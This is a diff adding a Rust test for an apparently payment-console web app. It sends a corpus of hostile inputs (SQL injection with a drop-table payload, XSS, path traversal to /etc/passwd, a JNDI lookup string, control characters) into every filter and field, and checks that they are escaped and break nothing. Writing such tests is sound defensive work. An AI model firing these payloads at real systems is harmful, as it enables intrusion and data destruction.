@@ -235,3 +235,181 @@ async fn every_server_function_refuses_no_session_another_origin_and_a_lesser_ro
         }
     }
 }
+
+/// What an attacker types into a filter or a text field.
+fn corpus() -> Vec<String> {
+    let mut corpus: Vec<String> = [
+        "' or '1'='1",
+        "k-known' --",
+        "'; drop table idempotency_records; --",
+        "%",
+        "_",
+        "k-%",
+        "\\",
+        "<script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "../../../etc/passwd",
+        "..%2f..%2fetc%2fpasswd",
+        "\u{202e}kcatta",
+        "k-known\u{200b}",
+        "\u{0007}\u{001b}[31m",
+        "${jndi:ldap://example.invalid/a}",
+        "😀",
+        "",
+    ]
+    .iter()
+    .map(|text| (*text).to_owned())
+    .collect();
+    corpus.push("a".repeat(10_000));
+    corpus
+}
+
+#[tokio::test]
+async fn hostile_text_in_every_filter_and_field_finds_nothing_renders_escaped_and_breaks_nothing() {
+    let app = TestApp::on(crate::support::DialectName::Postgres)
+        .tenant("acme", "100.00")
+        .in_process()
+        .await;
+    let body = r#"{"accountId":"acc_1","amount":"10.00","currency":"EUR","merchantReference":"known"}"#;
+    assert_eq!(app.pay("k-known", body).await.status(), 201);
+    let operator = app.console("otto", OperatorRole::Operator).await;
+    let own = operator.origin().to_owned();
+    let records_before = app.db.query_i64("select count(*) from idempotency_records").await;
+
+    for text in corpus() {
+        let text = text.as_str();
+        let shown = text.chars().take(40).collect::<String>();
+        // Look-ups: exact matches only, so nothing is found.
+        let (status, body) = call_form(&operator, &own, "console/find", &[("needle".to_owned(), text)]).await;
+        assert_eq!(status, 200, "find {shown:?}: {body}");
+        assert_eq!(
+            serde_json::from_str::<Value>(&body).expect("json"),
+            json!([]),
+            "find {shown:?}"
+        );
+        for field in ["tenant", "operation", "key_prefix"] {
+            let form: Vec<(String, &str)> = [
+                "status",
+                "step",
+                "tenant",
+                "operation",
+                "key_prefix",
+                "from",
+                "to",
+                "after",
+            ]
+            .iter()
+            .map(|other| {
+                (
+                    format!("filter[{other}]"),
+                    if *other == field { text } else { "" },
+                )
+            })
+            .collect();
+            let (status, body) = call_form(&operator, &own, "console/records", &form).await;
+            assert!(
+                [200, 400].contains(&status),
+                "records {field}={shown:?}: {status} {body}"
+            );
+            // Empty is "any", the one text that may list the record.
+            if status == 200 && !text.is_empty() {
+                let page: Value = serde_json::from_str(&body).expect("json");
+                assert_eq!(page["rows"], json!([]), "records {field}={shown:?}");
+            } else {
+                assert!(
+                    body.contains("tenant") || body.contains("operation") || body.contains("key"),
+                    "{body}"
+                );
+            }
+        }
+        let filters: Vec<(String, &str)> = ["range", "tenant", "operation"]
+            .iter()
+            .map(|name| ((*name).to_owned(), text))
+            .collect();
+        let (status, body) = call_form(&operator, &own, "console/dashboard", &filters).await;
+        // Three 10,000-character filters are over the console's body limit: refused as such.
+        assert!(
+            [200, 413].contains(&status),
+            "dashboard {shown:?}: {status} {body}"
+        );
+        // A reason goes with the change it explains: here there is none (no such record, or a
+        // reason too short to be one).
+        let mut apply: Vec<(String, &str)> = RECORD
+            .iter()
+            .map(|(name, value)| ((*name).to_owned(), *value))
+            .collect();
+        apply.extend([
+            ("version".to_owned(), "1"),
+            ("action".to_owned(), "ApplyProviderResult"),
+            ("reason".to_owned(), text),
+        ]);
+        let (status, body) = call_form(&operator, &own, "console/reconcile/apply", &apply).await;
+        assert!(
+            [200, 400].contains(&status),
+            "apply with reason {shown:?}: {status} {body}"
+        );
+        if status == 200 {
+            let result: Value = serde_json::from_str(&body).expect("json");
+            assert_eq!(result["ok"], false, "apply with reason {shown:?}: {body}");
+        }
+
+        // Rendered on the server, escaped.
+        let page = operator
+            .get(&format!(
+                "/records?key_prefix={}&q={}",
+                urlencode(text),
+                urlencode(text)
+            ))
+            .await;
+        assert!(
+            [200, 400, 414].contains(&page.status().as_u16()),
+            "{shown:?}: {}",
+            page.status()
+        );
+        let html = page.text().await.expect("html");
+        for raw in ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"] {
+            assert!(!html.contains(raw), "{raw} rendered unescaped");
+        }
+        if text == "<script>alert(1)</script>" {
+            assert!(
+                html.contains("&lt;script&gt;alert(1)&lt;/script&gt;")
+                    || html.contains("&lt;script>alert(1)&lt;/script>"),
+                "the filter is shown back, escaped"
+            );
+        }
+    }
+    assert_eq!(
+        app.db.query_i64("select count(*) from idempotency_records").await,
+        records_before,
+        "nothing written, nothing dropped"
+    );
+    assert_eq!(app.db.query_i64("select count(*) from payments").await, 1);
+}
+
+/// A form server function with `form` (its names and values made at run time).
+async fn call_form(
+    console: &Console,
+    origin: &str,
+    endpoint: &str,
+    form: &[(String, &str)],
+) -> (u16, String) {
+    let response = reqwest::Client::new()
+        .post(console.url(&format!("/api/{endpoint}")))
+        .header("cookie", console.cookie.as_deref().expect("signed in"))
+        .header("origin", origin)
+        .form(form)
+        .send()
+        .await
+        .expect("records");
+    let status = response.status().as_u16();
+    (status, response.text().await.expect("body"))
+}
+
+fn urlencode(text: &str) -> String {
+    text.bytes()
+        .map(|byte| match byte {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => (byte as char).to_string(),
+            _ => format!("%{byte:02X}"),
+        })
+        .collect()
+}
